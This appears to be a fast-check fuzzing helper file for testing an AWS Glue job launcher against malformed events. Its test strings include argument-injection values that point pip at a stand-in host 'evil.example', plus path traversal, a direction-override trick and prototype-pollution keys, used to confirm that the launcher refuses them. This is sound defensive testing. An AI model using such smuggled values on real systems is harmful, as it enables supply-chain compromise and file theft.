import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { DEFAULT_MAX_DPU } from '../../src/boundary/argument-policy';
import { GLUE_PARAMETERS, isGlueParameter } from '../../src/boundary/glue-parameters';
import { ERROR_NAMES } from '../../src/errors';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Mutation = (event: Json) => Json;

const EVENTS = join(__dirname, '../../events');
/** Every sample event: the seeds that mutations start from. */
export const SAMPLES: Json[] = readdirSync(EVENTS)
  .filter((file) => file.endsWith('.json'))
  .map((file) => JSON.parse(readFileSync(join(EVENTS, file), 'utf8')));

const isObject = (value: unknown): value is Record<string, Json> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** Every path to a value inside the event (the root included). */
const paths = (node: Json, at: Array<string | number> = []): Array<Array<string | number>> => [
  at,
  ...(Array.isArray(node)
    ? node.flatMap((item, i) => paths(item, [...at, i]))
    : isObject(node)
      ? Object.entries(node).flatMap(([key, value]) => paths(value, [...at, key]))
      : []),
];

/** Sets a key as JSON.parse would: an own property, even for `__proto__`. */
const put = (target: Record<string, Json> | Json[], key: string | number, value: Json) =>
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });

const parentOf = (root: Json, path: Array<string | number>) =>
  path.slice(0, -1).reduce<Json>((node, key) => (node as Record<string, Json>)[key as string] as Json, root);

const setAt = (root: Json, path: Array<string | number>, value: Json): Json => {
  if (path.length === 0) return value;
  const parent = parentOf(root, path);
  if (isObject(parent) || Array.isArray(parent)) put(parent, path.at(-1) as string, value);
  return root;
};

const deleteAt = (root: Json, path: Array<string | number>): Json => {
  const parent = parentOf(root, path);
  if (isObject(parent)) delete parent[path.at(-1) as string];
  else if (Array.isArray(parent)) parent.splice(path.at(-1) as number, 1);
  return root;
};

/** Strings that have broken parsers before: huge, control characters, lone surrogates, direction marks. */
export const oddString = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.constant('x'.repeat(100_000)),
  fc.constant('😀'.repeat(5_000)),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\ud800',
    '\u202e--evil',
    'a\nb',
    '--',
    '-- x',
    '--no-index',
    '-Ui http://evil.example/simple/',
    '-qihttp://evil.example/simple/',
    '--ind=http://evil.example/simple/ --upgrade',
    'acme-pipelines==1.4.0, --extra http://evil.example/simple/',
    '*',
    '../../etc/passwd',
  ),
);

/** Argument keys a caller must not set under the default policy, in the case Glue uses and in another. */
const protectedKey = fc.oneof(
  fc.constantFrom(...GLUE_PARAMETERS, '--launch-idempotency-key', '--launch-request-digest'),
  fc.constantFrom(...GLUE_PARAMETERS).map((key) => key.toUpperCase()),
);

const evilKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'jobNmae', 'jobs', 'detail'),
  fc.constantFrom('source', 'detail-type', 'idempotencyKey', 'arguments', 'timeout', 'executionClass'),
  protectedKey,
  oddString,
);

const anyValue: fc.Arbitrary<Json> = fc.oneof(
  fc.jsonValue() as fc.Arbitrary<Json>,
  oddString,
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e21),
  fc.array(fc.jsonValue() as fc.Arbitrary<Json>, { maxLength: 3 }),
);

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.tuple(fc.nat(), anyValue).map(([n, value]) => (event: Json) => {
    const all = paths(event);
    return setAt(event, all[n % all.length] ?? [], value);
  }),
  fc.nat().map((n) => (event: Json) => {
    const all = paths(event).filter((p) => p.length > 0);
    return all.length === 0 ? event : deleteAt(event, all[n % all.length] as Array<string | number>);
  }),
  fc.tuple(fc.nat(), evilKey, anyValue).map(([n, key, value]) => (event: Json) => {
    const objects = paths(event).filter((p) =>
      isObject(p.reduce<Json>((node, k) => (node as Record<string, Json>)[k as string] as Json, event)),
    );
    const path = objects[n % Math.max(1, objects.length)] ?? [];
    const target = path.reduce<Json>((node, k) => (node as Record<string, Json>)[k as string] as Json, event);
    if (isObject(target)) put(target, key, value);
    return event;
  }),
  fc.constant(() => ({ jobs: Array.from({ length: 101 }, () => ({})) })),
  fc.tuple(oddString, oddString).map(([key, value]) => (event: Json) => ({
    ...(isObject(event) ? event : {}),
    arguments: { [key.replace(/^--/, '') || 'x']: value },
  })),
  fc.tuple(protectedKey, oddString).map(([key, value]) => (event: Json) => ({
    ...(isObject(event) ? event : {}),
    arguments: { ...(isObject(event) && isObject(event.arguments) ? event.arguments : {}), [key]: value },
  })),
  fc
    .oneof(oddString, fc.integer())
    .map(
      (value) => (event: Json) =>
        isObject(event) ? { ...event, detail: JSON.stringify(event.detail ?? value) } : event,
    ),
);

/** A sample event after one to four mutations. */
export const mutatedEvent: fc.Arbitrary<Json> = fc
  .tuple(fc.constantFrom(...SAMPLES), fc.array(mutation, { minLength: 1, maxLength: 4 }))
  .map(([sample, mutations]) => mutations.reduce((event, mutate) => mutate(event), structuredClone(sample)));

/** Anything at all, JSON or not (functions aside: Lambda events are JSON). */
export const randomEvent: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything({ withNullPrototype: true, withObjectString: true }),
  fc.jsonValue(),
);

/** Keys the default policy lets a caller set. */
const argumentKey = fc
  .stringMatching(/^--[a-z][a-z0-9-]{0,20}$/)
  .filter((k) => !k.startsWith('--launch-') && !isGlueParameter(k));

// biome-ignore lint/suspicious/noControlCharactersInRegex: the control characters are what values may not hold
const CONTROL = /[\0-\x1f\x7f-\x9f]/u;
/** Argument values a script reads as data: no control character, no leading "-" but a negative number's. */
const dataValue = fc
  .string({ maxLength: 40 })
  .filter((value) => !CONTROL.test(value) && (!value.startsWith('-') || /^-\d+$/.test(value)));

/**
 * Requests the launcher must accept and start: a worker type and count together (Glue takes numberOfWorkers only
 * beside a workerType) within the default MAX_DPU; no setting the default policy refuses (jobRunQueuingEnabled).
 */
export const validRequest = (jobNames: readonly string[]) =>
  fc
    .record(
      {
        jobName: fc.constantFrom(...jobNames),
        arguments: fc.dictionary(argumentKey, dataValue, { maxKeys: 4 }),
        timeout: fc.integer({ min: 1, max: 10_000 }),
        size: fc
          .constantFrom(['G.1X', 1], ['G.2X', 2], ['G.025X', 0.25])
          .chain(([workerType, dpu]) =>
            fc
              .integer({ min: 2, max: Math.floor(DEFAULT_MAX_DPU / (dpu as number)) })
              .map((numberOfWorkers) => ({ workerType: workerType as string, numberOfWorkers })),
          ),
        executionClass: fc.constantFrom('STANDARD', 'FLEX'),
        idempotencyKey: fc.stringMatching(/^[\x21-\x7e]{1,64}$/).filter((key) => !key.startsWith('-')),
      },
      { requiredKeys: [] },
    )
    .map(({ size, ...request }) => ({ ...request, ...size }));

export const NAMED: ReadonlySet<string> = new Set(ERROR_NAMES);

/** The errors of steps 1 and 2 of a launch: bad input, a job or an argument the settings refuse. Nothing is called. */
export const REFUSED_BEFORE_ANY_CALL: ReadonlySet<string> = new Set([
  'InvalidRequest',
  'JobNotAllowed',
  'ArgumentNotAllowed',
]);

/**
 * How many cases a property tries: all of them, or a tenth under `npm run mutate` (test/setup-mutate.ts), where the
 * fuzz properties run for every mutant of the launch and would take most of an hour; the example-based tests carry
 * the kills there, and `npm test` runs every case.
 */
export const fuzzRuns = (numRuns: number): number =>
  process.env.FUZZ_RUNS_DIVISOR ? Math.ceil(numRuns / Number(process.env.FUZZ_RUNS_DIVISOR)) : numRuns;
